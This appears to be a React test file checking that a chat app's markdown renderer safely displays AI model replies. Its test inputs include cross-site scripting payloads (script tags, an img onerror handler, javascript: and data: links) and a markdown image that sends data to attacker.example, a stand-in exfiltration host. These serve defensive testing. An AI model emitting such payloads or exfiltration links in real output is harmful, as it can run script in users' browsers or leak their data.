import { render, screen } from '@testing-library/react'
import { describe, expect, it } from 'vitest'
import MarkdownContent from './markdown-content.tsx'

function renderMarkdown(text: string) {
  return render(<MarkdownContent text={text} />).container
}

describe('MarkdownContent', () => {
  it('shows raw HTML from the model as text instead of building elements from it', () => {
    const container = renderMarkdown(
      'Look: <img src=x onerror=alert(1)> and <script>alert(2)</script>\n\n<iframe src="https://evil.example"></iframe>',
    )
    expect(container.querySelector('img, script, iframe')).toBeNull()
    expect(container.querySelector('[onerror]')).toBeNull()
    expect(container).toHaveTextContent('<img src=x onerror=alert(1)>')
    expect(container).toHaveTextContent('<script>alert(2)</script>')
  })

  it('turns javascript: and data: links into plain text', () => {
    const container = renderMarkdown(
      '[click me](javascript:alert(1)) [or me](data:text/html,<script>alert(1)</script>) [rel](/settings)',
    )
    expect(container.querySelector('a')).toBeNull()
    expect(screen.getByText('click me')).toBeInTheDocument()
    expect(screen.getByText('or me')).toBeInTheDocument()
  })

  it('opens web and mail links in a new tab without opener or referrer', () => {
    renderMarkdown('[docs](https://example.com/docs) and [mail](mailto:team@example.com)')
    const docs = screen.getByRole('link', { name: 'docs' })
    expect(docs).toHaveAttribute('href', 'https://example.com/docs')
    expect(docs).toHaveAttribute('target', '_blank')
    expect(docs).toHaveAttribute('rel', 'noopener noreferrer')
    expect(screen.getByRole('link', { name: 'mail' })).toHaveAttribute(
      'href',
      'mailto:team@example.com',
    )
  })

  it('does not load images from other origins, naming them instead', () => {
    const container = renderMarkdown('![secret chart](https://attacker.example/leak?q=data)')
    expect(container.querySelector('img')).toBeNull()
    expect(container).toHaveTextContent('Image not loaded: secret chart')
    expect(screen.getByRole('link', { name: 'attacker.example' })).toHaveAttribute(
      'rel',
      'noopener noreferrer',
    )
  })

  it('shows an image embedded in the reply itself', () => {
    const pixel =
      'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII='
    renderMarkdown(`![a dot](${pixel})`)
    expect(screen.getByRole('img', { name: 'a dot' })).toHaveAttribute('src', pixel)
  })

  it('renders a fenced code block with its language and a copy button', () => {
    const container = renderMarkdown('```ts\nconst answer = 42\n```')
    expect(screen.getByText('ts')).toBeInTheDocument()
    expect(container.querySelector('pre code')).toHaveTextContent('const answer = 42')
    expect(screen.getByRole('button', { name: 'Copy code' })).toBeInTheDocument()
  })

  it('renders GitHub-flavoured tables, strikethrough and task lists', () => {
    const container = renderMarkdown(
      '| a | b |\n|---|---|\n| 1 | 2 |\n\n~~old~~ new\n\n- [x] done\n- [ ] todo',
    )
    expect(screen.getByRole('table')).toBeInTheDocument()
    expect(container.querySelector('del')).toHaveTextContent('old')
    expect(screen.getAllByRole('checkbox')).toHaveLength(2)
  })
})
